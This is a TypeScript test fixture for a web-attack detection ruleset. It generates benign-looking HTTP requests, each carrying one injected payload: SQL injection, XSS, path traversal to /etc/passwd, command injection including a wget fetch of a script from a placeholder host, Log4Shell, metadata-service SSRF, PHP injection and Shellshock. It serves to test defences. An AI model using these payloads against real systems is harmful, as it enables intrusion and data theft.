// Attacks that the ruleset is meant to match, one per request, each hidden in an otherwise benign request.
// A test runs them through the engine and expects a match in every one.
import type { BenchRequest } from './bench-request.js'
import { benignForm, benignGet, benignJson } from './benign.js'
import type { SeededRandom } from './random.js'
import { inventName } from './vocabulary.js'

/** A benign request with one attack in its query, a header, a form field or a JSON value. */
export function attack(random: SeededRandom): BenchRequest {
  const roll = random.next()
  if (roll < 0.4) return inQuery(random)
  if (roll < 0.5) return asScanner(random)
  return roll < 0.75 ? inJson(random) : inForm(random)
}

type Payload = (random: SeededRandom) => string

/** Each takes a random part, so that no two are the same bytes. */
const payloads: readonly [Payload, ...Payload[]] = [
  (random) => `${random.integer(1, 99)}' OR '${random.hex(3)}'='${random.hex(3)}' -- `,
  (random) => `${random.integer(1, 99)}' UNION SELECT password,${random.integer(1, 9)} FROM users -- `,
  (random) => `'; DROP TABLE ${inventName(random)}; -- `,
  (random) => `1 AND SLEEP(${random.integer(3, 9)}) -- `,
  (random) => `<script>alert('${random.hex(6)}')</script>`,
  (random) => `<img src=x onerror=alert(${random.integer(1, 9999)})>`,
  (random) => `../../../../../etc/passwd?${random.hex(4)}`,
  (random) => `${inventName(random)}\\..\\..\\..\\windows\\win.ini`,
  (random) => `; cat /etc/passwd #${random.hex(4)}`,
  (random) => `$(wget http://${inventName(random)}.example/x.sh)`,
  (random) => `\${jndi:ldap://${inventName(random)}.example/a}`,
  (random) => `http://169.254.169.254/latest/meta-data/${random.hex(4)}`,
  (random) => `<?php system('id ${random.hex(4)}'); ?>`,
  (random) => `php://filter/convert.base64-encode/resource=${inventName(random)}`,
  (random) => `O:8:"stdClass":${random.integer(1, 9)}:{s:4:"${random.hex(4)}";i:1;}`,
  (random) => `() { :; }; /bin/bash -c "echo ${random.hex(4)}"`,
]

const scanners = ['sqlmap/1.8', 'Mozilla/5.00 (Nikto/2.1.6)', 'Arachni/v1.6', 'masscan/1.3'] as const

function inQuery(random: SeededRandom): BenchRequest {
  const base = benignGet(random)
  const target = `/search?q=${encodeURIComponent(random.pick(payloads)(random))}&page=${random.integer(1, 40)}`
  return { ...base, target, isAttack: true }
}

function asScanner(random: SeededRandom): BenchRequest {
  const base = benignGet(random)
  const agent: readonly [string, string] = ['User-Agent', `${random.pick(scanners)} (${random.hex(6)})`]
  return { ...base, headers: [...base.headers.filter(([name]) => name !== 'User-Agent'), agent], isAttack: true }
}

function inJson(random: SeededRandom): BenchRequest {
  const base = benignJson(random)
  const body = JSON.stringify({ cart: random.hex(16), items: [{ title: random.pick(payloads)(random) }] })
  return { ...base, body, isAttack: true }
}

function inForm(random: SeededRandom): BenchRequest {
  const base = benignForm(random)
  const body = new URLSearchParams({ name: inventName(random), message: random.pick(payloads)(random) }).toString()
  return { ...base, body, isAttack: true }
}
